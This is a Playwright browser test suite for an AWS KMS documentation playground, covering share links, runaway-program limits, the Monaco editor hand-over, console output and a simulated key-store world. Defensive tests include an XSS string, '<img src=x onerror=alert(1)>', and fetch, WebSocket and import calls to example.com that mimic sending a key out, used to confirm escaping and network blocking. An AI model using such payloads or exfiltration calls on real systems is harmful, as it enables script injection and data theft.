/**
 * The playground's promises to a reader, in real Chromium against the built site: share links,
 * Stop and the time limit, damaged links, IntelliSense, the code editable before Monaco arrives
 * and handed over to it intact, the console, the World panel, small screens, and that nothing
 * leaves the machine.
 */
import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { decodeCodeHash } from '../../src/playground/share/code-hash';
import { test as browserTest } from '../support/browser-fixtures';
import {
  noticesText,
  openPlayground,
  outputText,
  playgroundControls,
  playgroundUrl,
  requestRows,
  runAndWait,
  statusText,
  worldText,
} from '../support/playground-page';

// The playground promises that nothing leaves the machine: every test's pages are watched.
const test = browserTest.override({ blockForeignRequests: true });

/** Holds back Monaco's main chunk until `release()`, so a test can act before Monaco arrives. */
async function holdMonaco(page: Page): Promise<{ release(): void }> {
  let release = () => {};
  const released = new Promise<void>((resolve) => (release = resolve));
  await page.route(/\/_astro\/editor\.api\.[\w-]+\.js$/, async (route) => {
    await released;
    await route.continue();
  });
  return { release };
}

/** The code as the page's link carries it (kept current while the reader types). */
async function codeInLink(page: Page): Promise<string | undefined> {
  const decoded = decodeCodeHash(await page.evaluate(() => location.hash));
  return decoded.kind === 'code' ? decoded.code : undefined;
}

describe('share links', () => {
  test('carry the edited code and the scenario to a fresh browser', async ({ newPage, server }) => {
    const page = await newPage({ permissions: ['clipboard-read', 'clipboard-write'] });
    await openPlayground(page, server, { scenario: 'user-logged-in' });
    const program = 'const answer: number = 6 * 7;\nconsole.log(`shared program says ${answer}`);\n';
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText(program);
    await playgroundControls(page).copyLink.click();
    await expect.poll(() => statusText(page)).toMatch(/Link copied/);
    const link = await playgroundControls(page).link.inputValue();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);
    const url = new URL(link);
    expect(url.searchParams.get('scenario')).toBe('user-logged-in');
    expect(decodeCodeHash(url.hash)).toEqual({ kind: 'code', code: program });

    const other = await newPage();
    await other.goto(link);
    await other.waitForSelector('kms-playground[data-editor="ready"]');
    expect(await playgroundControls(other).scenario.inputValue()).toBe('user-logged-in');
    const shownCode = (await other.innerText('[data-pg="editor"] .view-lines')).replace(/\u00a0/g, ' ');
    expect(shownCode).toContain('console.log(`shared program says ${answer}`);');
    await runAndWait(other);
    expect(await outputText(other)).toContain('shared program says 42');
  });

  test('keep the hash current while typing, so a reload keeps the edits', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'healthy' });
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.insertText('\nconsole.log("added before the reload");\n');
    await expect.poll(() => page.evaluate(() => location.hash)).toMatch(/^#code=/);
    await page.reload();
    await page.waitForSelector('kms-playground[data-editor="ready"]');
    await runAndWait(page);
    expect(await outputText(page)).toContain('added before the reload');
  });

  test('keep drafts per scenario in the browser, offered back when the link has no code', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'user-not-found' });
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText('console.log("my draft");');
    await expect.poll(() => page.evaluate(() => location.hash)).toMatch(/^#code=/);
    // As if arriving from the guide's "Try it" link: the page's sample, with the draft offered.
    await openPlayground(page, server, { scenario: 'user-not-found' });
    expect(await noticesText(page)).toContain('You edited this scenario’s code before');
    await page.click('[data-pg="notices"] button:has-text("Restore my edits")');
    await runAndWait(page);
    expect(await outputText(page)).toBe('my draft');
  });

  test('report a damaged or cut-short link and still give a working playground', async ({ newPage, server }) => {
    const page = await newPage();
    const good = new URL(
      playgroundUrl(server, { scenario: 'user-locked-out', code: 'console.log("this link gets cut short");' }),
    );
    await openPlayground(page, server, { scenario: 'user-locked-out', hash: good.hash.slice(0, -6), editor: 'plain' });
    expect(await noticesText(page)).toMatch(/The code in this link could not be loaded: .*cut short/);
    const status = await runAndWait(page);
    expect(status).toMatch(/^Finished/);
    expect(await outputText(page)).toContain('USER_LOCKED_OUT');
  });

  test('report an unknown scenario and open the default one', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'no-such-scenario', editor: 'plain' });
    expect(await noticesText(page)).toContain('There is no scenario called “no-such-scenario”');
    expect(await playgroundControls(page).scenario.inputValue()).toBe('healthy');
    expect(await runAndWait(page)).toMatch(/^Finished/);
  });
});

describe('runaway programs', () => {
  test('Stop ends an endless loop and the page keeps answering', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { code: 'console.log("looping");\nwhile (true) {}\n', editor: 'plain' });
    await playgroundControls(page).run.click();
    await page.waitForSelector('kms-playground[data-run="running"]');
    // The loop runs in the worker: the page still takes the click (a loop on the page's own thread
    // would hold it until the test's time limit), and the loop never ends unless Stop ends it.
    await playgroundControls(page).stop.click();
    await page.waitForSelector('kms-playground[data-run="idle"]');
    expect(await statusText(page)).toMatch(/^Stopped after/);
    expect(await outputText(page)).toMatch(/you pressed Stop/);
  });

  test('changing the scenario stops a running program and loads the new starter code', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { code: 'while (true) {}', editor: 'plain' });
    await playgroundControls(page).run.click();
    await page.waitForSelector('kms-playground[data-run="running"]');
    await playgroundControls(page).scenario.selectOption('user-not-found');
    // The loop never ends by itself, so the page going idle is the program being stopped (a time
    // limit here failed whenever the machine was busy).
    await page.waitForSelector('kms-playground[data-run="idle"]');
    await expect.poll(() => statusText(page)).toContain('Loaded “');
    expect(new URL(page.url()).searchParams.get('scenario')).toBe('user-not-found');
    await runAndWait(page);
    expect(await outputText(page)).toContain('USER_NOT_FOUND');
  });

  test('the 10-second limit ends a never-ending async loop, and the next run works', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, {
      code: 'let ticks = 0;\nwhile (true) { await new Promise((resolve) => setTimeout(resolve, 1)); ticks++; }\n',
    });
    const status = await runAndWait(page, 20_000);
    expect(status).toMatch(/still running after 10 s, the playground’s limit/);
    expect(await page.evaluate(() => document.title)).toContain('Playground');
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText('console.log("fresh worker, fresh run");');
    await page.keyboard.press('ControlOrMeta+Enter');
    await page.waitForFunction(() =>
      document.querySelector('[data-pg="console"]')?.textContent?.includes('fresh worker, fresh run'),
    );
  }, 40_000);
});

describe('editor', () => {
  test('offers DescribeCustomKeyStoresCommand from the bundled SDK types, and flags type errors', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { code: 'import * as sdk from "@aws-sdk/client-kms";\nconst limit: number = "ten";\n' });
    await page.waitForSelector('kms-playground[data-types="ready"]', { timeout: 30_000 });
    await page.waitForSelector('[data-pg="editor"] .squiggly-error');
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.insertText('\nsdk.DescribeCustomKey');
    await page.keyboard.press('Control+Space');
    const suggestion = page.locator('.suggest-widget .monaco-list-row', { hasText: 'DescribeCustomKeyStoresCommand' });
    await suggestion.first().waitFor({ timeout: 10_000 });
  });

  test('keeps find, go to definition, rename and format in a Monaco built without pickers, and palette keys fail quietly', async ({
    newPage,
    server,
  }) => {
    const page = await newPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    await openPlayground(page, server, { code: 'const KMS = 1;\nconsole.log(KMS, KMS);\n' });
    await page.waitForSelector('kms-playground[data-types="ready"]', { timeout: 30_000 });
    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
    // The command palette, go to line and quick outline are not part of the playground's Monaco.
    for (const key of ['F1', 'ControlOrMeta+Shift+P', 'Control+G', 'ControlOrMeta+Shift+O']) {
      await page.keyboard.press(key);
      await page.keyboard.press('Escape');
    }
    await page.keyboard.press('ControlOrMeta+F');
    await page.keyboard.insertText('KMS');
    await expect.poll(() => page.locator('.find-widget .matchesCount').innerText()).toMatch(/of 3$/);
    await page.keyboard.press('Escape');
    await page.click('[data-pg="editor"] .monaco-editor .view-lines', { button: 'right' });
    const menu = await page.locator('.monaco-menu .action-label').allInnerTexts();
    expect(menu).toEqual(expect.arrayContaining(['Go to Definition', 'Rename Symbol', 'Format Document']));
    expect(errors).toEqual([]);
  });

  test('lets the reader edit before Monaco arrives, and loses no keystroke typed through the hand-over', async ({
    newPage,
    server,
  }) => {
    const page = await newPage();
    const monaco = await holdMonaco(page);
    await page.goto(playgroundUrl(server, { scenario: 'healthy', code: 'const opened = 1;\n' }));
    await page.waitForSelector('kms-playground[data-editor="editable"]');
    expect(await page.getAttribute('kms-playground', 'data-editor-kind')).toBe('plain');
    await page.click('.pg-plain-editor');
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('// typed before Monaco\n');
    monaco.release();
    // One key at a time until Monaco has taken over, so the hand-over falls between two of them.
    let during = '';
    while ((await page.getAttribute('kms-playground', 'data-editor')) !== 'ready') {
      if (during.length > 3000) throw new Error('Monaco never took over');
      const key = String(during.length % 10);
      await page.keyboard.type(key);
      during += key;
    }
    await page.keyboard.type('+after');
    expect(await page.getAttribute('kms-playground', 'data-editor-kind')).toBe('monaco');
    expect(await page.evaluate(() => document.activeElement?.closest('.monaco-editor') !== null)).toBe(true);
    await expect.poll(() => codeInLink(page)).toBe(`const opened = 1;\n// typed before Monaco\n${during}+after`);
  });

  test('keeps the selection in place and the text where it was at the hand-over, and one undo goes back to the opened code', async ({
    newPage,
    server,
  }) => {
    const page = await newPage();
    const monaco = await holdMonaco(page);
    const opened = 'const first = 1;\nconst second = 2;\n';
    await page.goto(playgroundUrl(server, { scenario: 'healthy', code: opened }));
    await page.waitForSelector('kms-playground[data-editor="editable"]');
    await page.click('.pg-plain-editor');
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('third();');
    // Select "second", from its end backwards.
    await page.keyboard.press('ControlOrMeta+Home');
    await page.keyboard.press('ArrowDown');
    for (let i = 0; i < 'const second'.length; i++) await page.keyboard.press('ArrowRight');
    for (let i = 0; i < 'second'.length; i++) await page.keyboard.press('Shift+ArrowLeft');
    const plainText = await page.$eval('.pg-plain-editor', (textarea) => {
      const box = textarea.getBoundingClientRect();
      const style = getComputedStyle(textarea);
      return {
        left: box.left + parseFloat(style.borderLeftWidth) + parseFloat(style.paddingLeft),
        top: box.top + parseFloat(style.borderTopWidth) + parseFloat(style.paddingTop),
      };
    });
    monaco.release();
    await page.waitForSelector('kms-playground[data-editor="ready"]');
    const monacoText = await page.$eval('[data-pg="editor"] .view-line span span', (span) => {
      const box = span.getBoundingClientRect();
      return { left: box.left, top: box.top };
    });
    expect(Math.abs(monacoText.left - plainText.left)).toBeLessThanOrEqual(1);
    expect(Math.abs(monacoText.top - plainText.top)).toBeLessThanOrEqual(3);
    await expect.poll(() => codeInLink(page)).toBe('const first = 1;\nconst second = 2;\nthird();');
    await page.keyboard.type('other');
    await expect.poll(() => codeInLink(page)).toBe('const first = 1;\nconst other = 2;\nthird();');
    await page.keyboard.press('ControlOrMeta+Z');
    await expect.poll(() => codeInLink(page)).toBe('const first = 1;\nconst second = 2;\nthird();');
    await page.keyboard.press('ControlOrMeta+Z');
    await expect.poll(() => codeInLink(page)).toBe(opened);
  });

  test('shows the same lines after the hand-over as the reader had scrolled to', async ({ newPage, server }) => {
    const page = await newPage();
    const monaco = await holdMonaco(page);
    const lines = Array.from({ length: 120 }, (_, index) => `// line ${index + 1}`);
    await page.goto(playgroundUrl(server, { scenario: 'healthy', code: lines.join('\n') }));
    await page.waitForSelector('kms-playground[data-editor="editable"]');
    await page.click('.pg-plain-editor');
    await page.keyboard.press('ControlOrMeta+End');
    for (let i = 0; i < 3; i++) await page.keyboard.press('PageUp');
    const topLineBefore = await page.$eval(
      '.pg-plain-editor',
      (textarea) => Math.floor(textarea.scrollTop / parseFloat(getComputedStyle(textarea).lineHeight)) + 1,
    );
    expect(topLineBefore).toBeGreaterThan(20);
    monaco.release();
    await page.waitForSelector('kms-playground[data-editor="ready"]');
    const topLineAfter = await page.$$eval('[data-pg="editor"] .view-line', (viewLines) => {
      const editorTop = document.querySelector('[data-pg="editor"]')!.getBoundingClientRect().top;
      const visible = viewLines.filter((line) => line.getBoundingClientRect().top >= editorTop - 1);
      visible.sort((a, b) => a.getBoundingClientRect().top - b.getBoundingClientRect().top);
      return Number(visible[0]?.textContent?.replace(/\D+/g, ''));
    });
    expect(topLineAfter).toBe(topLineBefore);
  });

  test('waits for an IME composition to end before handing over, and keeps the composed text', async ({ newPage, server }) => {
    const page = await newPage();
    const monaco = await holdMonaco(page);
    await page.goto(playgroundUrl(server, { scenario: 'healthy', code: '// ' }));
    await page.waitForSelector('kms-playground[data-editor="editable"]');
    await page.click('.pg-plain-editor');
    await page.keyboard.press('ControlOrMeta+End');
    const ime = await page.context().newCDPSession(page);
    await ime.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 });
    monaco.release();
    // Monaco is built (out of sight) while the composition is open, and waits.
    await page.waitForSelector('[data-pg="editor"] .pg-editor-handover .monaco-editor', { state: 'attached' });
    await page.waitForTimeout(300);
    expect(await page.getAttribute('kms-playground', 'data-editor')).toBe('editable');
    await ime.send('Input.insertText', { text: '日本' });
    await page.waitForSelector('kms-playground[data-editor="ready"]');
    await page.keyboard.type('!');
    await expect.poll(() => codeInLink(page)).toBe('// 日本!');
  });

  test('keeps the plain editor when Monaco cannot load, says so, and runs what the reader typed', async ({ newPage, server }) => {
    const page = await newPage();
    await page.route(/\/_astro\/editor\.api\.[\w-]+\.js$/, (route) => route.abort('connectionreset'));
    await page.goto(playgroundUrl(server, { scenario: 'healthy', code: 'console.log("typed");\n' }));
    await page.waitForSelector('kms-playground[data-editor="ready"]');
    expect(await page.getAttribute('kms-playground', 'data-editor-kind')).toBe('plain');
    expect(await noticesText(page)).toContain('The full editor could not load');
    await page.click('.pg-plain-editor');
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('console.log("and more");');
    await runAndWait(page);
    expect(await outputText(page)).toMatch(/typed[\s\S]*and more/);
  });

  test('falls back to a plain text editor on small screens, and Run still works', async ({ newPage, server }) => {
    const page = await newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    await openPlayground(page, server, { scenario: 'user-not-found' });
    expect(await page.getAttribute('kms-playground', 'data-editor-kind')).toBe('plain');
    expect(await page.inputValue('.pg-plain-editor')).toContain('@aws-sdk/client-kms');
    await playgroundControls(page).run.tap();
    await page.waitForSelector('kms-playground[data-run="idle"]');
    await expect.poll(() => outputText(page)).toContain('USER_NOT_FOUND');
  });
});

describe('output', () => {
  test('shows objects as trees, SDK errors with $fault and $metadata, and escapes everything', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, {
      code: [
        'import { KMSClient, DescribeKeyCommand } from "@aws-sdk/client-kms";',
        'console.log("<img src=x onerror=alert(1)>", { store: { id: "cks-1", state: "FAILED" } });',
        'console.warn("careful");',
        'console.log(new DescribeKeyCommand({ KeyId: "alias/named" }));',
        'try {',
        '  await new KMSClient({ region: "eu-west-1" }).send(new DescribeKeyCommand({ KeyId: "1234abcd-0000-0000-0000-000000000000" }));',
        '} catch (error) {',
        '  console.error(error);',
        '}',
        'Promise.reject(new Error("nobody caught this"));',
        'setTimeout(() => { throw new RangeError("thrown in a timer"); }, 30_000);',
      ].join('\n'),
      editor: 'plain',
    });
    await runAndWait(page);
    const output = await outputText(page);
    expect(output).toContain('<img src=x onerror=alert(1)>');
    expect(await playgroundControls(page).output.locator('img').count()).toBe(0);
    expect(output).toContain('{ store: { id: "cks-1", state: "FAILED" } }');
    // The SDK's classes keep their names in the run worker's minified build.
    expect(output).toMatch(/^DescribeKeyCommand \{ middlewareStack: /m);
    expect(output).toContain('{ KeyId: "alias/named" }');
    expect(output).toMatch(/NotFoundException: Key '.*' does not exist/);
    expect(output).toMatch(/\$fault: "client"/);
    expect(output).toMatch(/\$metadata:\s*\{ httpStatusCode: 400, requestId: "[0-9a-f-]+"/);
    expect(output).toMatch(/Unhandled promise rejection Error: nobody caught this/);
    expect(output).toMatch(/Uncaught \(in a timer callback\) RangeError: thrown in a timer/);
    expect(await playgroundControls(page).output.locator('.pg-level-warn').count()).toBe(1);
  });

  test('truncates huge output with a note', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, {
      code: 'for (let i = 0; i < 5000; i++) console.log("line", i);\nconsole.log("done");',
      editor: 'plain',
    });
    expect(await runAndWait(page)).toMatch(/^Finished/);
    expect(await outputText(page)).toMatch(/Output truncated: the program wrote more than 2000 lines/);
    expect(await playgroundControls(page).output.locator('.pg-line').count()).toBeLessThanOrEqual(2001);
  });

  test('fails requests to other hosts in the program, with a message that says why', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, {
      code: [
        'for (const attempt of [',
        '  () => fetch("https://example.com/steal?key=AKIA"),',
        '  () => new WebSocket("wss://example.com/socket"),',
        '  () => { const xhr = new XMLHttpRequest(); xhr.open("GET", "https://example.com/x"); xhr.send(); },',
        '  () => import("https://example.com/module.js"),',
        '  () => (0, eval)("import(\\"https://example.com/evaled.js\\")"),',
        ']) {',
        '  try { await attempt(); console.log("reached the network!"); } catch (error) { console.log(String(error)); }',
        '}',
      ].join('\n'),
      editor: 'plain',
    });
    await runAndWait(page);
    const output = await outputText(page);
    expect(output).not.toContain('reached the network!');
    expect(output).toContain('TypeError: Network request blocked: GET https://example.com/steal was not sent');
    expect(output).toContain('WebSocket to wss://example.com/socket was not sent');
    expect(output).toContain('XMLHttpRequest GET https://example.com/x was not sent');
    expect(output).toContain("Cannot find module 'https://example.com/module.js'");
    // An import() the compiler cannot see is stopped by the page's Content-Security-Policy,
    // which the run worker inherits.
    expect(output).toContain('Failed to fetch dynamically imported module: https://example.com/evaled.js');
  });
});

describe('world and time', () => {
  test('keeps the world between runs: repair it in the World panel, run again, and the store connects', async ({
    newPage,
    server,
  }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'user-logged-in', editor: 'plain' });
    await runAndWait(page);
    expect(await outputText(page)).toContain('USER_LOGGED_IN');
    expect(await worldText(page)).toContain('kmsuser is logged in');
    await playgroundControls(page).worldAction('Log kmsuser out').click();
    expect(await worldText(page)).toContain('A connection attempt now would succeed');
    await runAndWait(page);
    expect(await outputText(page)).toMatch(/^\s*CONNECTED$/m);
    expect(await worldText(page)).toMatch(/payments-hsm-store[\s\S]*\bCONNECTED\b/);

    await playgroundControls(page).reset.click();
    expect(await worldText(page)).toContain('kmsuser is logged in');
  });

  test('a store FAILED with USER_LOCKED_OUT is left alone when the program runs again, even after the password is fixed: it must be disconnected first', async ({
    newPage,
    server,
  }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'user-locked-out', editor: 'plain' });
    await runAndWait(page);
    expect(await outputText(page)).toContain('FAILED: USER_LOCKED_OUT');
    const fix = playgroundControls(page).worldAction('to kmsPswd-2024');
    await expect.poll(() => fix.textContent()).toContain('connects once disconnected');
    await fix.click();
    await runAndWait(page);
    expect(await outputText(page)).toContain('Not reconnecting');
    expect(await worldText(page)).toMatch(/payments-hsm-store[\s\S]*FAILED/);
  });

  test('tells the two kmsuser password buttons apart, and a breakage is not called a repair', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'user-locked-out', editor: 'plain' });
    const passwordButtons = playgroundControls(page).worldAction('Set the kmsuser password');
    const labels = await passwordButtons.allTextContents();
    expect(labels).toHaveLength(2);
    expect(new Set(labels).size).toBe(2);
    await playgroundControls(page).worldAction('to kmsPswd-2025').click();
    expect(await worldText(page)).toContain('A connection attempt now would fail with INVALID_CREDENTIALS');
    expect(await statusText(page)).not.toContain('repaired');

    await playgroundControls(page).worldAction('Break the network path').click();
    expect(await statusText(page)).toContain('the broken world');
  });

  test('runs realistic waits on the simulated clock and shows the simulated time', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, {
      code: 'const started = Date.now();\nfor (let i = 0; i < 4; i++) await new Promise((r) => setTimeout(r, 30_000));\nconsole.log(`waited ${(Date.now() - started) / 60_000} simulated minutes`);',
      editor: 'plain',
    });
    const status = await runAndWait(page);
    // Four 30-second waits: at least 2 simulated minutes, plus the run's real milliseconds sped up
    // too (more on a loaded machine). On the real clock the run would outlast the test's limit.
    const waited = Number(/waited (\d+(?:\.\d+)?) simulated minutes/.exec(await outputText(page))?.[1]);
    expect(waited).toBeGreaterThanOrEqual(2);
    const simulatedMinutes = Number(/Finished in .* \((\d+) min( \d+ s)? of simulated time\)/.exec(status)?.[1]);
    expect(simulatedMinutes).toBeGreaterThanOrEqual(2);
    await playgroundControls(page).timeJump('+7 days').click();
    expect(await page.innerText('[data-pg="clock"]')).toMatch(/7 d( \d+ min)? since the scenario started/);
  });

  test('shows each KMS call with its attempt number, so retries are visible', async ({ newPage, server }) => {
    const page = await newPage();
    await openPlayground(page, server, { scenario: 'throttling', editor: 'plain' });
    await runAndWait(page);
    const rows = await requestRows(page);
    expect(rows.some((row) => row.errorType === 'ThrottlingException')).toBe(true);
    expect(rows.some((row) => row.attempt > 1)).toBe(true);
  });
});
